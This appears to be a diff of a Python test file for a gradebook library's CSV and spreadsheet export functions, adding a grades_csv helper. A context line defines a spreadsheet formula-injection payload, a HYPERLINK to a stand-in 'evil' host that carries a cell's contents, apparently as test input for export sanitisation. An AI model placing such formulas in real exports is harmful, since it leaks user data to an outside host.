@@ -14,13 +14,20 @@ from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 
 from bnlib.grader.exports import spreadsheet
-from bnlib.grader.exports.lms import canvas_csv, grades_csv, moodle_csv
+from bnlib.grader.exports.lms import GradesTable, canvas_csv, moodle_csv
 from bnlib.grader.exports.spreadsheet import ExportError
 from bnlib.grader.gradebook import Gradebook, GradebookError, Student
 from bnlib.grader.record import UNREADABLE, marks_without_answers
 
 POSSIBLE = {n: sum(e.points for e in exercises(n)) for n in ("04_algorithm", "05_backward")}
 FORMULA = '=HYPERLINK("http://evil/?"&A1;"ok")'
+
+
+def grades_csv(book, path) -> None:
+    table = GradesTable(book)
+    for student in book.students():
+        table.add(student, book.final(student.id))
+    table.write(path)
 
 
 @pytest.fixture
